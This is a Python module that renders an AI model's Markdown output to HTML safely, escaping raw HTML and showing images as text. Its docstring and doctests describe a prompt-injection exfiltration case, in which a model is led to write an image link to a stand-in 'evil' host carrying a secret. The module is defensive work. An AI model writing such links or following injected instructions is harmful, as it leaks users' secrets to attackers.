"""Markdown from a model rendered to HTML that makes the browser fetch nothing.

A model's output is not trusted: a prompt-injected page can make a model
write ``![x](http://evil/?q=<secret>)``, and a front end that renders that
Markdown loads the image and sends the secret away. So model output is never
sent to a front end as ``text/markdown`` (JupyterLab's sanitiser keeps
``<img>``); rocm_nb renders it here, with markdown-it-py, and sends the HTML:

* raw HTML is escaped, shown as text (``<img src=...>``, ``<script>``);
* an image, inline or reference-style, is shown as text, ``[image: alt](url)``,
  with its URL visible and nothing loaded. ``data:`` URIs too: they fetch
  nothing, but a reply that draws pictures is a reply that can mislead, and
  one rule is easier to trust than two;
* a link keeps its ``href`` (the user chooses to follow it), except
  ``javascript:``, ``vbscript:``, ``file:`` and ``data:`` links, which
  markdown-it leaves as text.

Example:
    >>> render("**hi** ![x](http://evil/?q=secret)")
    '<p><strong>hi</strong> <span class="rocm-nb-image">[image: x](http://evil/?q=secret)</span></p>\\n'
"""

from __future__ import annotations

import functools
from collections.abc import Sequence
from typing import TYPE_CHECKING, Any

from rocm_nb._escape import html_text

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.renderer import RendererHTML
    from markdown_it.token import Token
    from markdown_it.utils import OptionsDict

__all__ = ["render"]


def _image_as_text(
    renderer: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: Any
) -> str:
    token = tokens[idx]
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    src = str(token.attrGet("src") or "")
    return f'<span class="rocm-nb-image">{html_text(f"[image: {alt}]({src})")}</span>'


@functools.cache
def _parser() -> MarkdownIt:
    from markdown_it import MarkdownIt  # imported on first use: `import rocm_nb` stays cheap

    parser = MarkdownIt("commonmark", {"html": False}).enable("table")
    parser.add_render_rule("image", _image_as_text)
    return parser


def render(text: str) -> str:
    """``text`` as Markdown, rendered to HTML without raw HTML or images (see the module docstring).

    Example:
        >>> render("<img src=http://evil>")
        '<p>&lt;img src=http://evil&gt;</p>\\n'
    """
    rendered: str = _parser().render(text)
    return rendered
